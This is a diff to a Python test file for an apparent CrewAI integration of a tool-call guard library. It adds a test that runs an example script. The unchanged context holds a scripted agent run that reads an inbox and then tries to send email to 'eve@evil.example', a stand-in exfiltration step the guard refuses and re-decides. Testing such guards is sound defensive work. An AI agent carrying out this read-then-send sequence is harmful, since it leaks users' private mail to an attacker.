@@ -5,11 +5,14 @@ from __future__ import annotations
 import os
 from typing import Any
 
+import pytest
+
 os.environ.update(CREWAI_DISABLE_TELEMETRY="true", OTEL_SDK_DISABLED="true", CREWAI_TRACING_ENABLED="false")
 
 from crewai import Agent, BaseLLM, Crew, Task
 from crewai.tools import tool
 
+import example
 from remit_client.crewai import definitions, protect
 
 from .spec import READ, Adapter, Run, Script, openai_message, send
@@ -60,3 +63,7 @@ def test_a_refused_call_is_decided_again() -> None:
     run = Run([[READ], [send("eve@evil.example")], [send("eve@evil.example")], "Done."], approval_seconds=0)
     TestCrew().run(run)
     assert [event["call"]["tool"] for event in run.events("call")] == ["read_inbox", "send_email", "send_email"]
+
+
+def test_the_example_runs(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+    example.run("with_crewai", capsys, monkeypatch)
